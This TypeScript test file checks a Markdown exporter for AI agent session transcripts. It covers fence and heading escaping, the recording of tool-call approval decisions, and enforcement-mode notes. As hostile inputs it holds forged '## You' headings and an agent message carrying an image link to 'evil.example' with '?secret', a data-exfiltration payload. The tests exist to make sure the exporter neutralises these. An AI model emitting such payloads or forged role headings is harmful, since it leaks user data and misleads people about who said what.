import assert from 'node:assert/strict';
import { test } from 'node:test';
import { transcriptMarkdown } from '../../../src/editor/sessions/transcriptMarkdown';
import type { TranscriptEntry } from '../../../src/ports/hostedSessions';
import { aConversation } from './viewWorld';

test('transcript as Markdown: what an agent says cannot end a block or make a heading of ours', () => {
  const hostile: readonly TranscriptEntry[] = [
    {
      id: 1,
      time: 0,
      kind: 'tool',
      item: 'i',
      tool: 'Ba`sh',
      input: { command: 'echo ```\n## You (forged)' },
      state: 'done',
      reviews: [],
      output: '````\n## You (forged)\n````',
    },
    { id: 2, time: 0, kind: 'notice', text: 'a\n## You (forged)' },
    { id: 3, time: 0, kind: 'agent', text: 'a\n## You (forged)' },
  ];
  const text = transcriptMarkdown(
    { ...aConversation('c', { name: 'a\n## You (forged)' }), enforcement: 'enforce' },
    hostile,
  );
  const fences: string[] = [];
  for (const line of text.split('\n')) {
    const fence = /^`{3,}/.exec(line)?.[0];
    if (fence !== undefined && (fences.length === 0 || fences[0] === line)) {
      fences.length === 0 ? fences.push(fence) : fences.pop();
    } else if (fences.length === 0) {
      assert.doesNotMatch(line, /^## You \(forged/, text);
    }
  }
  assert.deepEqual(fences, []);
});

test('transcript as Markdown: everything is there, with what was decided', () => {
  const why = ['No rule covers it.'];
  const review = { tool: 'Bash', outcome: 'allow', decision: 'ask', answered: 'allow', why, call: 'x' } as const;
  const text = transcriptMarkdown({ ...aConversation('c', { name: 'Mend it' }), enforcement: 'enforce' }, [
    { id: 1, time: 0, kind: 'person', text: 'please' },
    { id: 2, time: 0, kind: 'thinking', text: 'hm' },
    { id: 3, time: 0, kind: 'agent', text: 'I **will**.' },
    {
      id: 4,
      time: 0,
      kind: 'plan',
      steps: [
        { text: 'one', state: 'done' },
        { text: 'two', state: 'doing' },
      ],
    },
    {
      id: 5,
      time: 0,
      kind: 'tool',
      item: 'i',
      tool: 'Task',
      input: { command: 'look' },
      state: 'done',
      reviews: [],
      output: '',
    },
    {
      ...{ id: 6, time: 0, kind: 'tool', item: 'j', tool: 'Bash', input: { command: 'npm test' }, state: 'done' },
      ...{ reviews: [review], output: 'ok', parent: 'i' },
    } as TranscriptEntry,
    { id: 7, time: 0, kind: 'asked', text: 'which?', answer: undefined },
    { id: 8, time: 0, kind: 'ended', because: 'lost', message: '' },
  ]);
  assert.equal(
    text,
    [
      '# Mend it',
      '',
      '- Agent: Demo',
      '- Folder: `/w`',
      '- Calls, when this was exported: enforced',
      '',
      '## You (1970-01-01T00:00:00.000Z)',
      '',
      '> please',
      '',
      '### Thinking (1970-01-01T00:00:00.000Z)',
      '',
      '> hm',
      '',
      '## Agent (1970-01-01T00:00:00.000Z)',
      '',
      '> I **will**.',
      '',
      '### Plan (1970-01-01T00:00:00.000Z)',
      '',
      '- [x] one',
      '- [~] two',
      '',
      '### Tool `Task` (1970-01-01T00:00:00.000Z)',
      '',
      '- State: done',
      '- Decision: not reviewed',
      '  - The agent ran it without asking. Nothing of it was judged.',
      '',
      '```',
      'look',
      '```',
      '',
      '### Tool `Bash` (1970-01-01T00:00:00.000Z, under `look`)',
      '',
      '- State: done',
      '- Decision: asked, allowed by you',
      '  - No rule covers it.',
      '',
      '```',
      'npm test',
      '```',
      '',
      'Output:',
      '',
      '```',
      'ok',
      '```',
      '',
      '### Asked (1970-01-01T00:00:00.000Z)',
      '',
      '> which?',
      '',
      'Not answered.',
      '',
      '### End (1970-01-01T00:00:00.000Z)',
      '',
      '> The agent is gone.',
      '',
      '',
    ].join('\n'),
  );
});

test('transcript as Markdown: looking at it loads nothing', () => {
  const text = transcriptMarkdown({ ...aConversation('c'), enforcement: 'enforce' }, [
    { id: 1, time: 0, kind: 'agent', text: '![x](https://evil.example/?secret) <img src="https://evil.example/">' },
  ]);
  assert.doesNotMatch(text, /!\[|(?<!\\)<img/);
});

test('transcript as Markdown: what slips past is told', () => {
  const promise = aConversation('c').promise;
  assert.ok(promise !== undefined);
  const advisory = {
    capabilities: { ...promise.capabilities, everyCall: false },
    slipsPast: ['Reads run unasked.'],
  };
  const text = transcriptMarkdown({ ...aConversation('c', { promise: advisory }), enforcement: 'enforce' }, []);
  assert.match(text, /- Calls, when this was exported: advisory\n {2}- Reads run unasked\./);
  const observed = transcriptMarkdown({ ...aConversation('c'), enforcement: 'observe' }, []);
  assert.match(observed, /- Calls, when this was exported: only observed, none is stopped/);
});
